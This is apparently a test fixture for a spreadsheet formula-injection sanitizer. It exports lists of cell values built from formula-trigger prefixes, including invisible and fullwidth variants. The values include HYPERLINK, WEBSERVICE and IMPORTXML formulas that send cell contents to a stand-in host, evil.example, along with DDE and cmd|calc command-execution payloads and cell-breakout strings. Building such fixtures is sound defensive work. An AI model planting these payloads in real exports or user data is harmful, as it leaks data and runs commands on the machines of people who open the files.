/** What somebody could give for a name to have a spreadsheet run it. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '\u2212',
  '|',
  '%',
]

const calls = [
  'HYPERLINK("http://evil.example?x="&A1,"click")',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"Click")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  'SUM(1+1)*cmd|calc!A0',
  'DDE("cmd";"/C calc";"!A0")',
  '1+1',
  '2+5+cmd|calc!A0',
]

/** Each begins with a sign that a spreadsheet takes for the beginning of a formula. */
export const plainFormulas = starts.flatMap((start) => calls.map((call) => start + call))

/** Those, and some that break out of the cell or are formulas only once they have been read back. */
export const formulas = [
  ...plainFormulas,
  '=DDE("cmd";"/C calc";"__DdeLink_60_870840465")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
  '";=1+1;"',
  '"\r\n=1+1',
  ',=1+1',
  '</t></is></c><c><f>1+1</f></c>',
  '_x003D_1+1',
  '\u0000=1+1',
  '\u202e=1+1',
]
